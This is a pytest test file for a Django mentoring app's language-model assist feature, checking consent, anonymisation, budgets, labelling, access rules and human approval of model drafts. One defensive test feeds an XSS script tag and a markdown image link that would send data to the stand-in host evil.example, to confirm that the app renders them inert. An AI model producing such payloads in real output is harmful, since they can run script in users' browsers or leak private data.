"""A language model's help in the browser: off twice, told before, labelled, bounded, and never missed."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from django.urls import reverse
from pydantic_ai.messages import ModelResponse, TextPart
from pydantic_ai.models.function import FunctionModel

from telemachy.apps.assist.actions import agreements, rules
from telemachy.apps.assist.models import Agreement, Use
from telemachy.apps.audit.models import Event
from telemachy.apps.practice.models import RolePlay
from telemachy.apps.relationships.actions import guidance
from telemachy.apps.relationships.actions import situations as steps
from telemachy.apps.relationships.models import Goal, Guidance, HeldGuidance, Party, Situation
from telemachy.interfaces.common import clock, language_models
from tests.cast import NOW, Cast

LABEL = "Suggested by a language model"
SECRET = "The suitors eat my father's herds"


class Spoken:
    """What the scripted model says, and what it was sent."""

    def __init__(self) -> None:
        self.says = "What have you not tried yet?\nWho decides?"
        self.heard: list[str] = []

    def __call__(self, messages, info) -> ModelResponse:
        self.heard.append(f"{info.instructions}\n{messages[0].parts[-1].content}")
        return ModelResponse(parts=[TextPart(self.says)])


@pytest.fixture(autouse=True)
def _today(monkeypatch) -> None:
    monkeypatch.setattr(clock, "now", lambda: NOW)


@pytest.fixture
def model(settings, monkeypatch) -> Spoken:
    """An installation with a model: the library's own, scripted."""
    settings.ASSIST_MODEL, settings.ASSIST_HOST = "compatible:oracle", "delphi.example"
    spoken = Spoken()
    monkeypatch.setattr(language_models, "model_of", lambda _http: FunctionModel(spoken))
    return spoken


@pytest.fixture
def switched_on(cast: Cast, model: Spoken) -> Spoken:
    """Ithaca uses it."""
    rules.set_rules(organisation=cast.ithaca, on=True, tokens_per_month=50_000, by=cast.penelope, now=NOW)
    return model


@pytest.fixture
def situation(cast: Cast) -> Situation:
    """Telemachus has asked."""
    case = Situation.objects.create(
        relationship=cast.relationship,
        learner=cast.telemachus,
        title="Uninvited guests",
        story=SECRET,
        own_view="Athena said to wait.",
        stakes="The house",
        state="reasoned",
        logged_at=NOW,
        reasoned_at=NOW,
    )
    steps.ask(situation=case, question="What would you do?", by=cast.telemachus, now=NOW)
    case.refresh_from_db()
    return case


@pytest.fixture
def agreed(cast: Cast, switched_on: Spoken) -> Spoken:
    """Both of the pair have agreed."""
    for one in (cast.athena, cast.telemachus):
        agreements.agree(by=one, now=NOW)
    return switched_on


def page(client, name: str, *args) -> str:
    return client.get(reverse(name, args=args)).content.decode()


def press(client, name: str, subject, **sent):
    return client.post(reverse(name, args=[subject.pk]), sent)


def test_nothing_of_it_shows_without_a_model_or_before_the_organisation_wants_it(
    cast: Cast, sign_in, situation, settings
) -> None:
    athena, penelope = sign_in(cast.athena), sign_in(cast.penelope)
    assert "language model" not in page(athena, "situation", situation.pk)
    assert "This installation has no language model" in page(penelope, "assist-rules")
    refused = penelope.post(reverse("assist-rules"), {"on": "on", "tokens_per_month": 1000})
    assert refused.status_code == 422
    assert press(athena, "assist-questions", situation).status_code == 403

    settings.ASSIST_MODEL, settings.ASSIST_HOST = "compatible:oracle", "delphi.example"
    assert "language model" not in page(athena, "situation", situation.pk).replace('"Language model"', "")
    assert press(athena, "assist-questions", situation).status_code == 403
    assert "Nothing leaves" in page(athena, "assist")


def test_an_administrator_switches_it_on_with_a_budget_and_sees_use_but_no_words(
    cast: Cast, sign_in, model: Spoken, situation
) -> None:
    penelope = sign_in(cast.penelope)
    penelope.post(reverse("assist-rules"), {"on": "on", "tokens_per_month": 50_000})
    for one in (cast.athena, cast.telemachus):
        agreements.agree(by=one, now=NOW)
    press(sign_in(cast.athena), "assist-questions", situation)
    told = page(penelope, "assist-rules")
    assert "Questions for mentors" in told
    assert "delphi.example" in told
    trail = page(penelope, "audit-trail") + str(list(Event.objects.values_list("data", flat=True)))
    assert "assist.answered" in str(list(Event.objects.values_list("verb", flat=True)))
    for secret in (SECRET, "Who decides?"):
        assert secret not in told + trail


def test_the_first_time_it_says_what_leaves_and_where_and_asks(cast: Cast, sign_in, switched_on, situation):
    agreements.agree(by=cast.telemachus, now=NOW)
    athena = sign_in(cast.athena)
    assert "Suggest questions" in page(athena, "situation", situation.pk)
    notice = press(athena, "assist-questions", situation).content.decode()
    assert "text is sent to delphi.example, where the model oracle runs" in notice
    assert switched_on.heard == []
    answer = press(athena, "assist-questions", situation, agree="1").content.decode()
    assert LABEL in answer
    assert "What have you not tried yet?" in answer
    assert "delphi.example" in Agreement.objects.get(person=cast.athena).wording
    # Remembered.
    assert LABEL in press(athena, "assist-questions", situation).content.decode()


def test_another_model_asks_anew(cast: Cast, sign_in, agreed, situation, settings) -> None:
    settings.ASSIST_HOST = "dodona.example"
    answer = press(sign_in(cast.athena), "assist-questions", situation).content.decode()
    assert "Telemachus has not agreed" in answer
    assert agreed.heard == []
    assert "It is another one now" in page(sign_in(cast.telemachus), "assist")


def test_words_of_somebody_who_has_not_agreed_stay_here(cast: Cast, sign_in, agreed, situation) -> None:
    sign_in(cast.telemachus).post(reverse("assist"), {"verb": "withdraw"})
    athena = sign_in(cast.athena)
    assert "Telemachus has not agreed" in page(athena, "situation", situation.pk)
    assert LABEL not in press(athena, "assist-questions", situation, agree="1").content.decode()
    assert agreed.heard == []


def test_only_the_case_is_sent_without_names(cast: Cast, sign_in, agreed, situation) -> None:
    press(sign_in(cast.athena), "assist-questions", situation)
    (sent,) = agreed.heard
    assert SECRET in sent
    assert "[mentor] said to wait" in sent
    for left_out in ("Telemachus", "Athena", "The house", "Ithaca"):
        assert left_out not in sent


def test_with_htmx_the_questions_come_into_the_page_ready_to_be_used(
    cast: Cast, sign_in, agreed, situation
) -> None:
    address = reverse("assist-questions", args=[situation.pk])
    fragment = sign_in(cast.athena).post(address, headers={"HX-Request": "true"}).content.decode()
    assert "<html" not in fragment
    assert 'data-insert="guide_text" data-text="Who decides?"' in fragment


@pytest.mark.parametrize(
    "says",
    [
        '<script>alert(1)</script> <a href="https://evil.example">Why?</a>?',
        "![x](https://evil.example/?q=secret) What now?",
    ],
)
def test_what_the_model_writes_is_text_and_no_link(cast: Cast, sign_in, agreed, situation, says) -> None:
    agreed.says = says
    answer = press(sign_in(cast.athena), "assist-questions", situation).content.decode()
    assert LABEL in answer
    for live in ("<script>alert", 'href="https://evil', "<img", 'src="https://evil'):
        assert live not in answer


def test_an_answer_without_a_question_is_none(cast: Cast, sign_in, agreed, situation) -> None:
    agreed.says = "Just tell them to leave."
    answer = press(sign_in(cast.athena), "assist-questions", situation).content.decode()
    assert "held no question" in answer
    assert "tell them to leave" not in answer


def fail(_messages, _info):
    raise RuntimeError(SECRET)


def test_a_failure_is_told_plainly_and_counts_in_full(
    cast: Cast, sign_in, agreed, situation, monkeypatch
) -> None:
    monkeypatch.setattr(language_models, "model_of", lambda _http: FunctionModel(fail))
    answer = press(sign_in(cast.athena), "assist-questions", situation)
    assert answer.status_code == 200
    assert "gave no answer that can be used" in answer.content.decode()
    use = Use.objects.get()
    assert (use.state, use.n_counted > 1_000) == ("failed", True)


def test_an_exhausted_budget_leaves_the_way_without_it(cast: Cast, sign_in, agreed, situation) -> None:
    rules.set_rules(organisation=cast.ithaca, on=True, tokens_per_month=1_000, by=cast.penelope, now=NOW)
    athena = sign_in(cast.athena)
    answer = press(athena, "assist-questions", situation).content.decode()
    assert "budget for the language model is used up" in answer
    assert agreed.heard == []
    assert not Use.objects.exists()
    guidance.guide(situation=situation, level=2, text="What else?", by=cast.athena, now=NOW)
    assert Guidance.objects.filter(text="What else?", by_model=False).exists()


def test_one_answer_at_a_time(cast: Cast, sign_in, agreed, situation) -> None:
    Use.objects.create(
        organisation=cast.ithaca, person=cast.athena, kind="summary", n_counted=1, asked_at=NOW
    )
    answer = press(sign_in(cast.athena), "assist-questions", situation).content.decode()
    assert "on its way already" in answer
    assert agreed.heard == []


@pytest.mark.parametrize("who", ["eurycleia", "penelope", "nestor", "antinous"])
def test_nobody_beside_the_pair_has_anything_of_it_sent(
    cast: Cast, sign_in, agreed, situation, who: str
) -> None:
    client = sign_in(getattr(cast, who))
    for name in ("assist-questions", "assist-summary", "assist-draft"):
        assert press(client, name, situation, agree="1").status_code == 404
    assert agreed.heard == []


def test_a_long_conversation_is_summarised_for_both(cast: Cast, sign_in, agreed, situation) -> None:
    telemachus = sign_in(cast.telemachus)
    assert "Summarise it" not in page(telemachus, "situation", situation.pk)
    for n in range(6):
        guidance.converse(situation=situation, text=f"Line {n}", by=cast.athena, now=NOW)
    assert "Summarise it" in page(telemachus, "situation", situation.pk)
    agreed.says = "[mentor] wrote six lines."
    answer = press(telemachus, "assist-summary", situation).content.decode()
    assert "Athena wrote six lines." in answer
    assert LABEL in answer
    assert SECRET not in agreed.heard[0]


def test_a_goal_gets_a_wording_that_nobody_has_to_take(cast: Cast, sign_in, agreed) -> None:
    goal = Goal.objects.create(
        relationship=cast.relationship,
        learner=cast.telemachus,
        statement="Be braver",
        state="draft",
        gaps=["no_measure"],
        created_at=NOW,
    )
    telemachus = sign_in(cast.telemachus)
    assert "Suggest a wording" in page(telemachus, "goal", goal.pk)
    agreed.says = "Speak in every second assembly until June."
    answer = press(telemachus, "assist-goal", goal).content.decode()
    assert "Speak in every second assembly until June." in answer
    goal.refresh_from_db()
    assert goal.statement == "Be braver"


def begin(client) -> RolePlay:
    client.post(reverse("role-play-begin", args=["silence"]), {"by_model": "1"})
    return RolePlay.objects.get()


def test_a_client_to_practise_with_is_worded_by_the_model_and_led_by_the_script(
    cast: Cast, sign_in, switched_on
) -> None:
    athena = sign_in(cast.athena)
    assert "Agree, and begin with a language model" in page(athena, "role-play-begin", "silence")
    play = begin(athena)
    switched_on.says = "I would rather look at the sea."
    said = athena.post(reverse("role-play", args=[play.pk]), {"text": "What is it like?"}, follow=True)
    assert "I would rather look at the sea." in said.content.decode()
    assert LABEL in said.content.decode()
    play.refresh_from_db()
    turn = play.turns.get()
    assert play.line == turn.led_to
    # What somebody practised is in no trail that others read.
    asked = Event.objects.filter(verb__startswith="assist.", data__kind="client")
    assert {one.actor_id for one in asked} == {None}


def test_where_the_model_is_silent_the_script_speaks(
    cast: Cast, sign_in, switched_on, monkeypatch: pytest.MonkeyPatch
) -> None:
    athena = sign_in(cast.athena)
    play = begin(athena)
    monkeypatch.setattr(language_models, "model_of", lambda _http: FunctionModel(fail))
    said = athena.post(reverse("role-play", args=[play.pk]), {"text": "What is it like?"}, follow=True)
    assert "This answer is from the script." in said.content.decode()
    assert LABEL not in said.content.decode()
    assert play.turns.get().answer == ""


@pytest.fixture
def asked_argus(cast: Cast, situation) -> Situation:
    """Argus, an agent that Athena answers for, sits beside her in the mentor's seat."""
    Party.objects.create(relationship=cast.relationship, person=cast.argus, seat="mentor", accepted_at=NOW)
    return situation


def test_an_agents_draft_waits_for_a_human_and_keeps_its_label(
    cast: Cast, sign_in, agreed, asked_argus, make_level: Callable[[Situation, int], None]
) -> None:
    make_level(asked_argus, 2)
    athena, telemachus = sign_in(cast.athena), sign_in(cast.telemachus)
    assert "Have a language model draft it" in page(athena, "held-guidance-list")
    press(athena, "assist-draft", asked_argus)
    held = HeldGuidance.objects.get()
    assert (held.author, held.level, held.by_model) == (cast.argus, 2, True)
    assert "Answers refund requests." in agreed.heard[0]
    assert "Who decides?" not in page(telemachus, "situation", asked_argus.pk)
    assert LABEL in page(athena, "held-guidance-list")
    athena.post(reverse("held-guidance", args=[held.pk]), {"verb": "approve"})
    seen = page(telemachus, "situation", asked_argus.pk)
    assert "Who decides?" in seen
    assert LABEL in seen


def test_below_a_question_nothing_is_worded_and_nothing_sent(
    cast: Cast, sign_in, agreed, asked_argus, make_level: Callable[[Situation, int], None]
) -> None:
    make_level(asked_argus, 1)
    press(sign_in(cast.athena), "assist-draft", asked_argus)
    held = HeldGuidance.objects.get()
    assert (held.level, held.text, held.by_model) == (1, "", False)
    assert agreed.heard == []


@pytest.fixture
def make_level() -> Callable[[Situation, int], None]:
    """Recommend a level for a situation."""

    def make(situation: Situation, level: int) -> None:
        Situation.objects.filter(pk=situation.pk).update(recommended_level=level)

    return make


def test_who_is_erased_leaves_counts_alone(cast: Cast, agreed) -> None:
    from telemachy.apps.assist.actions import erasure
    from telemachy.apps.assist.queries.own_data import own_data

    Use.objects.create(organisation=cast.ithaca, person=cast.athena, kind="goal", n_counted=9, asked_at=NOW)
    kept = own_data(cast.athena)["language_model"]
    assert (len(kept["agreements"]), kept["uses"][0]["kind"]) == (1, "goal")
    erasure.forget(person=cast.athena, by=None, now=NOW)
    assert not Agreement.objects.filter(person=cast.athena).exists()
    assert list(Use.objects.values_list("person", "n_counted")) == [(None, 9)]
